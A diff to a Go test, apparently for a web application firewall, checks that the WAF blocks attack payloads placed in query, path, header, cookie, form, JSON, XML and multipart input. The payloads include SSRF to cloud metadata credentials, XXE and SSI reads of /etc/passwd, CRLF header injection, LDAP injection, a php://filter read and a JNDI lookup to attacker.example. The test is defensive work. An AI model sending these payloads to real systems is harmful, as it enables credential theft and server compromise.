@@ -111,12 +111,21 @@ func TestWAFBlocksEveryClassEverywhere(t *testing.T) {
 		"ssti":           "{{ ''.__class__.__mro__[1].__subclasses__() }}",
 		"jndi":           "${jndi:ldap://attacker.example/a}",
 		"nosqli":         `{"$where": "sleep(5000)"}`,
+		"ssrf":           "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+		"xxe":            `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
+		"ldapi":          "*)(uid=*))(|(uid=*",
+		"crlf":           "x\r\nSet-Cookie: admin=1",
+		"ssi":            `<!--#exec cmd="cat /etc/passwd"-->`,
+		"rfi":            "php://filter/convert.base64-encode/resource=index.php",
 	}
 	places := []string{"query", "path", "header", "cookie", "form", "json", "xml", "multipart"}
 	for class, payload := range attacks {
 		for _, where := range places {
 			if class == "path-traversal" && where == "path" {
 				continue // net/http cleans ../ in the client; tested raw below
+			}
+			if class == "crlf" && where == "header" {
+				continue // net/http refuses CR and LF in a header value
 			}
 			before := hits.Load()
 			resp := send(t, h.base, place(t, where, payload))
